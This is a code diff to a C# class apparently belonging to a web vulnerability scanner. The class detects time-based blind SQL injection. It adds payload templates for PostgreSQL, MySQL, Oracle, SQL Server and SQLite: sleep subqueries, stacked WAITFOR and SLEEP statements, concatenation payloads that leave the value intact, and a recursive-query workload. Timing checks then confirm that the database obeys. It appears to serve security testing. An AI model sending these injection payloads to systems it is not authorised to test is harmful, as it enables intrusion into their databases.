@@ -1,4 +1,6 @@
 using System.Globalization;
+using Assay.Probe.Answers;
+using Assay.Probe.Places;
 using Assay.Probe.Transport;
 
 namespace Assay.Probe.Probes.Database;
@@ -6,40 +8,79 @@ namespace Assay.Probe.Probes.Database;
 /// <summary>The database waits as long as it is told to.</summary>
 internal static class SqlByTime
 {
-    private static readonly TimeSpan Slowest = TimeSpan.FromSeconds(0.7);
-
     // Each delay stands in a subquery of its own, so that it happens once and not for every row.
-    private static readonly (string Database, string Condition)[] Sleeps =
+    private static readonly (string Database, string Condition)[] Conditions =
     [
         ("PostgreSQL", "(SELECT 1 FROM pg_sleep({0})) IS NULL"),
         ("MySQL", "(SELECT 1 FROM (SELECT SLEEP({0}))x)=2"),
+        ("Oracle", "(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{0}) FROM dual)=5"),
     ];
 
-    private static readonly string[] Frames = ["{0}' OR {1}-- ", "{0}') OR {1}-- ", "{0} OR {1}-- "];
+    private static readonly (string Database, string Statement)[] Statements =
+    [
+        ("SQL Server", ";WAITFOR DELAY '0:0:{0:00}'-- "),
+        ("PostgreSQL", ";SELECT pg_sleep({0})-- "),
+        ("MySQL", ";SELECT SLEEP({0})-- "),
+    ];
 
-    public static async Task<SqlProof?> TryAsync(SqlTarget target)
+    // They leave the value as it is: fit for statements that write.
+    private static readonly (string Database, string Text)[] Values =
+    [
+        ("PostgreSQL", "{0}'||(SELECT '' FROM pg_sleep({1}))||'"),
+        ("MySQL", "{0}'+(SELECT 0 FROM (SELECT SLEEP({1}))x)+'"),
+        ("Oracle", "{0}'||CASE DBMS_PIPE.RECEIVE_MESSAGE('zq',{1}) WHEN 5 THEN 'z' END||'"),
+        ("PostgreSQL", "{0}+(SELECT 0 FROM pg_sleep({1}))"),
+        ("MySQL", "{0}+(SELECT 0 FROM (SELECT SLEEP({1}))x)"),
+    ];
+
+    private const string Work = "(WITH RECURSIVE c(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM c LIMIT {0}) SELECT {1} FROM c)";
+
+    private static readonly string[] Heads = ["{0}'", "{0}')", "{0}"];
+
+    public static async Task<SqlProof?> TryAsync(Foothold target)
     {
-        if (target.Control.Answer.Elapsed > Slowest)
+        if (!Delay.CanShow(target.Control.Answer))
         {
             return null;
         }
 
-        foreach (var frame in Frames.Where(f => target.IsNumeric || f.Contains('\'')))
+        foreach (var (database, text) in Values.Where(v => target.IsNumeric || v.Text.Contains("{0}'", StringComparison.Ordinal)))
         {
-            foreach (var (database, condition) in Sleeps)
+            if (await SleepsAsync(target, d => Text(text, target.Value, d), database) is { } proof)
             {
-                if (await SleepsAsync(target, d => string.Format(CultureInfo.InvariantCulture, frame, target.Value, string.Format(CultureInfo.InvariantCulture, condition, d)), database) is { } proof)
+                return proof;
+            }
+        }
+
+        if (await WorksAsync(target, n => $"{target.Value}'||{Text(Work, n, "substr(COUNT(*),1,0)")}||'") is { } worked)
+        {
+            return worked;
+        }
+
+        return target.MayAsk ? await AskAsync(target) : null;
+    }
+
+    private static async Task<SqlProof?> AskAsync(Foothold target)
+    {
+        foreach (var head in Heads.Where(h => target.IsNumeric || h.Contains('\'')).Select(h => Text(h, target.Value)))
+        {
+            foreach (var (database, condition) in Conditions)
+            {
+                if (await SleepsAsync(target, d => $"{head} OR {Text(condition, d)}-- ", database) is { } proof)
                 {
                     return proof;
                 }
             }
 
-            if (await SleepsAsync(target, d => WaitFor(frame, target.Value, d), "SQL Server") is { } waited)
+            foreach (var (database, statement) in Statements)
             {
-                return waited;
+                if (await SleepsAsync(target, d => head + Text(statement, d), database) is { } proof)
+                {
+                    return proof;
+                }
             }
 
-            if (await WorksAsync(target, n => string.Format(CultureInfo.InvariantCulture, frame, target.Value, $"(WITH RECURSIVE c(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM c LIMIT {n}) SELECT COUNT(*) FROM c)=2")) is { } worked)
+            if (await WorksAsync(target, n => $"{head} OR {Text(Work, n, "COUNT(*)")}=2-- ") is { } worked)
             {
                 return worked;
             }
@@ -48,33 +89,15 @@ internal static class SqlByTime
         return null;
     }
 
-    private static string WaitFor(string frame, string value, double seconds)
-    {
-        var head = frame[..frame.IndexOf(" OR", StringComparison.Ordinal)].Replace("{0}", value, StringComparison.Ordinal);
-        return string.Create(CultureInfo.InvariantCulture, $"{head};WAITFOR DELAY '0:0:{seconds:00}'-- ");
-    }
+    private static string Text(string form, params object[] values) => string.Format(CultureInfo.InvariantCulture, form, values);
 
-    private static async Task<SqlProof?> SleepsAsync(SqlTarget target, Func<double, string> text, string database)
-    {
-        if (!await TakesAsync(target, text(1), 0.9))
-        {
-            return null;
-        }
-
-        // None, long, none, short: a busy server does not follow this.
-        if (await TakesAsync(target, text(0), 0.7) || !await TakesAsync(target, text(3), 2.8) || await TakesAsync(target, text(0), 0.7))
-        {
-            return null;
-        }
-
-        var attack = await target.SendAsync(text(2));
-        return attack.Answer.Elapsed >= TimeSpan.FromSeconds(1.9)
+    private static async Task<SqlProof?> SleepsAsync(Foothold target, Func<int, string> text, string database) =>
+        await Delay.ProveAsync(d => target.SendAsync(text(d))) is { } attack
             ? new SqlProof(attack, $"{database} waited 1, 3 and 2 seconds as it was told, and not at all in between")
             : null;
-    }
 
     // SQLite cannot wait, but it can be made to work: four times the work takes much longer.
-    private static async Task<SqlProof?> WorksAsync(SqlTarget target, Func<long, string> text)
+    private static async Task<SqlProof?> WorksAsync(Foothold target, Func<long, string> text)
     {
         const long some = 1_000_000;
         var first = await target.SendAsync(text(some));
@@ -84,14 +107,23 @@ internal static class SqlByTime
             return null;
         }
 
-        var more = await target.SendAsync(text(4 * some));
-        var quickAgain = await target.SendAsync(text(1));
-        return more.Answer.Elapsed > first.Answer.Elapsed * 2 && more.Answer.Elapsed > TimeSpan.FromMilliseconds(300)
-            && quickAgain.Answer.Elapsed * 4 < first.Answer.Elapsed && more.Answer.Failure == SendFailure.None
-            ? new SqlProof(more, $"the database worked {first.Answer.Elapsed.TotalMilliseconds:N0} ms and, told to do four times as much, {more.Answer.Elapsed.TotalMilliseconds:N0} ms; with nothing to do it took {quickAgain.Answer.Elapsed.TotalMilliseconds:N0} ms")
-            : null;
-    }
+        // Two rounds: what is slow by chance is not slow in this order four times.
+        for (var round = 0; round < 2; round++)
+        {
+            var more = await target.SendAsync(text(4 * some));
+            var quickAgain = await target.SendAsync(text(1));
+            if (more.Answer.Elapsed <= first.Answer.Elapsed * 2 || more.Answer.Elapsed <= TimeSpan.FromMilliseconds(300)
+                || quickAgain.Answer.Elapsed * 4 >= first.Answer.Elapsed || more.Answer.Failure != SendFailure.None)
+            {
+                return null;
+            }
 
-    private static async Task<bool> TakesAsync(SqlTarget target, string text, double seconds) =>
-        await target.SendAsync(text) is { Answer: { Failure: SendFailure.None } answer } && answer.Elapsed >= TimeSpan.FromSeconds(seconds);
+            if (round == 1)
+            {
+                return new SqlProof(more, $"the database worked {first.Answer.Elapsed.TotalMilliseconds:N0} ms and, told to do four times as much, {more.Answer.Elapsed.TotalMilliseconds:N0} ms; with nothing to do it took {quickAgain.Answer.Elapsed.TotalMilliseconds:N0} ms");
+            }
+        }
+
+        return null;
+    }
 }
